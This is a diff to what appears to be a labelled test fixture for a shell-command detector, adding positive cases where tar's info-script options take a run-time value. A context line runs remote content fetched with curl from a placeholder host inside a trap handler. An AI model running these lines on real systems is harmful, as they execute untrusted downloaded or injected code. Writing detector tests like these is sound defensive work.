@@ -466,3 +466,8 @@ split -b 1M --filter='gzip > $FILE.gz' d p-
 builtin trap "$(curl -s https://h.example/x)" EXIT
 #@ neg trap of a constant cleanup, through command
 command trap 'rm -f "$tmp"' EXIT
+#@ pos tar's info script built at run time (-F at the end of a cluster)
+tar -cvMF "$hook" -L 1 -f /dev/null /etc/hosts
+#@ pos --info-script and --new-volume abbreviated, built at run time
+tar -c -f /dev/null -L 1 --new-volume "$1" /etc/hosts
+tar -c -f /dev/null -L 1 --info="$1" /etc/hosts
